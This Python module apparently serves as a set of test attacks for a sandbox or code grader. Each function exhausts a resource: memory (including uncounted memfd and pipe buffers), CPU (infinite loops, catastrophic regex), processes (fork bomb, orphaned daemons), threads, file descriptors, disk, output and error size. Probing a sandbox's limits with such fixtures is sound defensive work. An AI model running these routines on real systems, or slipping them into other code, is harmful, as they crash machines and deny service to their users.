"""Using up what there is: memory, time, processes, descriptors, disk, patience."""

import ctypes
import os
import re
import signal
import threading
import time

import torch

from attacks.known import COURSE, REPLY, libc


def memory_by_a_list(x):
    """Appends until there is no more."""
    kept = []
    while True:
        kept.append(bytearray(10**7))


def memory_by_a_square(x):
    """All pairs of a hundred thousand."""
    return torch.ones(10**5, 10**5)


def memory_by_the_kernel(x):
    """Maps what nobody has, and asks for it at once."""
    libc().mmap.restype = ctypes.c_void_p
    for _ in range(100):
        libc().mmap(None, ctypes.c_size_t(1 << 34), 3, 0x8022, -1, 0)
    return x


def memory_in_files_of_memory(x):
    """memfd_create: memory that no limit on a process counts."""
    kept = []
    while True:
        descriptor = os.memfd_create("attack")
        os.truncate(descriptor, 1 << 30)
        os.write(descriptor, bytes(1 << 26))
        kept.append(descriptor)


def memory_in_pipes(x):
    """Fills as many pipes as it can open."""
    try:
        while True:
            _, end = os.pipe()
            os.set_blocking(end, False)
            libc().fcntl(end, 1031, 1 << 20)
            os.write(end, bytes(1 << 20))
    except OSError:
        return x


def memory_that_is_locked(x):
    """Locks memory, which then can't be swapped."""
    libc().mlockall(3)
    return x


def loop(x):
    """Never ends, in Python."""
    while True:
        try:
            sum(range(10**5))
        except BaseException:
            pass


def loop_in_c(x):
    """Never ends, in one call that no signal of Python's interrupts."""
    return 10**10**9


def loop_in_a_pattern(x):
    """A regular expression that tries everything."""
    return re.match(r"(a+)+$", "a" * 60 + "b")


def sleep(x):
    """Does nothing, for long."""
    time.sleep(10**6)


def sleep_uncounted(x):
    """Waits in the kernel, where no CPU time passes."""
    while True:
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
        libc().poll(None, 0, -1)


def fork_bomb(x):
    """Each process starts another."""
    while True:
        os.fork()


def daemons(x):
    """Leaves processes behind that belong to nobody."""
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
    return x


def threads(x):
    """As many threads as there can be."""
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


def threads_of_torch(x):
    """torch's own threads."""
    torch.set_num_threads(64)
    return torch.ones(500, 500) @ torch.ones(500, 500)


def descriptors(x):
    """As many open files as there can be."""
    kept = []
    while True:
        kept.append(open("/dev/null"))


def fill_the_disk(x):
    """Writes until the disk is full."""
    with open("/dev/shm/attack_big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def many_files(x):
    """Empty files, which no limit on size counts."""
    for folder in ("/tmp", "/dev/shm", f"{COURSE}/tmp"):
        for number in range(1000):
            os.close(os.open(f"{folder}/attack_{number}", os.O_CREAT | os.O_WRONLY))
    return x


def many_folders(x):
    """Folders in folders."""
    for _ in range(1000):
        os.mkdir("/dev/shm/attack_folder")
        os.chdir("/dev/shm/attack_folder")
    return x


def flood_the_screen(x):
    """Prints without end."""
    while True:
        print("attack" * 10**4)


def flood_the_reply(x):
    """Sends bytes without end."""
    while True:
        os.write(REPLY, bytes(1 << 16))


def drip_the_reply(x):
    """Sends one byte now and then, so that there is always something to read."""
    while True:
        os.write(REPLY, b"\0")
        time.sleep(0.05)


def huge_error(x):
    """An error whose text is a hundred million characters."""
    raise ValueError("attack " * 10**7)


def endless_chain_of_errors(x):
    """An error caused by an error, and so on."""
    error = ValueError()
    for _ in range(10**5):
        try:
            raise ValueError from error
        except ValueError as next_error:
            error = next_error
    raise error


def collect_without_end(x):
    """Objects that come back from the dead."""

    class Undead:
        def __del__(self):
            Undead()

    Undead()
    return x


def alarm_without_end(x):
    """Signals, thousands a second."""
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)
    return x
